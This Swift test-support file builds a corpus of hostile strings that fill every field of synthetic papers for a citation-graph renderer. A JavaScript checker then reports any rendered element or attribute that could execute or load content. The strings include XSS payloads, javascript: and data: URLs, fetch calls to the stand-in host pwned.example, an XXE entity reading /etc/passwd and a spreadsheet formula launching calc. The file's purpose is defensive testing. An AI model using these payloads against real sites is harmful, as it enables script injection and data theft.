import CitationGraph
import PaperLineage

/// A corpus whose every text tries to be something else: markup, script, an address, an end of something.
///
/// What executes leaves traces that ``Page/dialogs``, ``Page/requests`` and ``sentinel`` show.
enum HostileCorpus {
  /// The variable of a page that a text sets when it is executed.
  static let sentinel = "pwned"

  /// The deed: seen in the page, as a dialog and as a request.
  static let deed = "window.pwned=(window.pwned||0)+1;alert('pwned');fetch('http://pwned.example/');"

  /// What executes when it is taken for markup of an HTML document.
  static let markup: [String] = [
    "<script>\(deed)</script>",
    "</script><script>\(deed)</script>",
    "</title></desc></style></textarea></select></svg></g></a></text><script>\(deed)</script>",
    "]]>--><script>\(deed)</script><!--",
    "<img src=x onerror=\"\(deed)\">",
    "\"><img src=x onerror=\"\(deed)\"><\"",
    "'><img src=x onerror=\"\(deed)\"><'",
    "<svg onload=\"\(deed)\">",
    "<svg><animate onbegin=\"\(deed)\" attributeName=\"x\" dur=\"1s\"/></svg>",
    "<svg><set attributeName=\"href\" to=\"javascript:\(deed)\"/></svg>",
    "<details open ontoggle=\"\(deed)\">",
    "<iframe srcdoc=\"&lt;script&gt;parent.\(sentinel)=1&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>parent.\(sentinel)=1</script>\"></object>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"\(deed)\"/></foreignObject>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://pwned.example/refresh\">",
    "<base href=\"http://pwned.example/\">",
    "<link rel=\"stylesheet\" href=\"http://pwned.example/sheet\">",
    "<style>@import 'http://pwned.example/import';</style>",
    "<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
  ]

  /// What does so elsewhere: in an attribute, a script, a style, a template, another decoding, or a path to a member.
  static let other: [String] = [
    "\" onmouseover=\"\(deed)\" onfocus=\"\(deed)\" autofocus tabindex=\"1\" x=\"",
    "' onmouseover='\(deed)' onfocus='\(deed)' autofocus tabindex='1' x='",
    "&lt;script&gt;\(deed)&lt;/script&gt;", "&#60;img src=x onerror=&#34;\(deed)&#34;&#62;",
    "\\u003cscript\\u003e\(deed)\\u003c/script\\u003e", "%3Cscript%3E\(deed)%3C/script%3E",
    "\\\";\(deed)//", "';\(deed)//", "`;${\(deed)}`", "${\(deed)}", "{{constructor.constructor(\"\(deed)\")()}}",
    "*/}:root{background:url(http://pwned.example/ground)}/*", "<!--<script>", "<![CDATA[<script>",
    "<?xml-stylesheet href='http://pwned.example/'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "javascript:\(deed)",
    "\u{2028}\(deed)\u{2029}\(deed)", "\u{202E}drawkcab\u{2066}etalosi",
    "\u{0}\u{7}\u{1B}[31m\u{9}\r\n\u{7F}\u{85}\u{FEFF}\u{FFFE}\u{FFFF}",
    "__proto__", "constructor", "\\N\\G\\l\\E <b>bold</b> \\", "=cmd|'/c calc'!A1",
    "数学 \u{1D465} e\u{301} עברית ‏العربية",
  ]

  /// Addresses that must not become links.
  static let addresses: [String] = [
    "javascript:\(deed)", "JaVaScRiPt:\(deed)", " javascript:\(deed)", "java\tscript:\(deed)",
    "\u{1}javascript:\(deed)",
    "data:text/html,<script>\(deed)</script>", "data:image/svg+xml,<svg onload='\(deed)'/>", "vbscript:msgbox(1)",
    "blob:http://pwned.example/1", "file:///etc/passwd", "//pwned.example/", "view-source:http://pwned.example/",
    "https:javascript:\(deed)", "javascript://https://example.org/%0A\(deed)",
  ]

  /// Texts that are too much of something.
  static let long: [String] = [
    String(repeating: "long ", count: 1_000), String(repeating: "W", count: 5_000),
    String(repeating: "数", count: 5_000),
    String(repeating: "<", count: 5_000), String(repeating: "e\u{301}", count: 2_500),
  ]

  static var texts: [String] { markup + other + addresses + long }

  /// A paper for each text, which stands in all its fields, and a chain of relations through them.
  static func corpus() throws -> Corpus {
    let texts = texts
    let topics = texts.prefix(6).enumerated().map { number, text in
      Topic(id: number == 0 ? text : "__proto__-\(number)", label: text, labels: ["zh": texts[number + 6]])
    }
    let papers = texts.enumerated().map { number, text -> Paper in
      let date = PublicationDate(year: 2020 + number % 36 / 12, month: number % 12 + 1)
      return Paper(
        id: PaperID(rawValue: "h-\(number)"),
        title: text,
        name: text, aliases: [text, "alias \(text)"],
        versions: date.map { [PaperVersion(role: .listed, date: $0, venue: text)] } ?? [], organizations: [text, text],
        listedOrganization: text, topic: topics[number % topics.count].id, isExternal: number.isMultiple(of: 10),
        link: number.isMultiple(of: 4)
          ? "https://example.org/?\(number)&b=\"'<x>" : addresses[number % addresses.count],
        code: addresses[(number + 1) % addresses.count], impact: text, notes: [text], source: text)
    }
    let kinds = RelationKind.allCases
    let relations = papers.indices.dropFirst().map { place in
      let text = papers[place].title
      return Relation(
        citing: papers[place].id, cited: papers[place - 1].id, kind: kinds[place % kinds.count],
        evidence: [
          Evidence(source: .mention, locator: text, note: text, words: text, sentence: text, rule: text),
          Evidence(source: .curated, note: text),
        ])
    }
    return try Corpus(
      CorpusParts(
        title: texts[1], titles: ["zh": texts[2]], dateChoice: .role(.listed), topics: topics, papers: papers,
        relations: relations))
  }

  /// A citation network, where identifiers may be anything as well, as a corpus.
  static func networkCorpus() -> Corpus {
    let texts = texts
    var builder = CitationGraphBuilder(paperCount: texts.count)
    for row in 1..<texts.count { builder.add(PaperIndex(row), cites: PaperIndex(row - 1)) }
    let network = CitationNetwork(
      graph: builder.build(), identifiers: .texts(TextColumn(texts.enumerated().map { "\($1.prefix(200))\($0)" })),
      dates: Column(texts.indices.map { PackedDate(year: 2000 + $0 / 12, month: $0 % 12 + 1) }),
      titles: TextColumn(texts))
    return network.corpus(of: network.graph.papers)
  }

  /// What in a document could execute, ask for something or lead elsewhere, other than an element of its own that
  /// `isOurs` knows: an expression of JavaScript whose value is a list of complaints.
  ///
  /// - Parameter isOurs: A selector of elements that belong there.
  static func findings(except isOurs: String = ":not(*)") -> String {
    """
    (() => {
      const found = [];
      const active = ["script", "foreignobject", "iframe", "frame", "object", "embed", "image", "img", "animate",
        "set", "base", "link", "meta", "handler", "audio", "video", "math"];
      for (const element of document.querySelectorAll("*")) {
        if (element.matches(\(JSONValue.string(isOurs).text))) continue;
        const name = element.localName.toLowerCase();
        if (active.includes(name)) found.push(`<${name}>`);
        for (const {name: attribute, value} of element.attributes) {
          if (/^on/i.test(attribute)) found.push(`<${name} ${attribute}>`);
          if (/^(.*:)?(href|src|srcdoc|action|formaction|data|to|values|from|ping|background|poster)$/i.test(attribute)
              && !/^(https?:\\/\\/|mailto:|#)/i.test(value)) found.push(`<${name} ${attribute}=${value.slice(0, 60)}>`);
        }
      }
      return found;
    })()
    """
  }
}
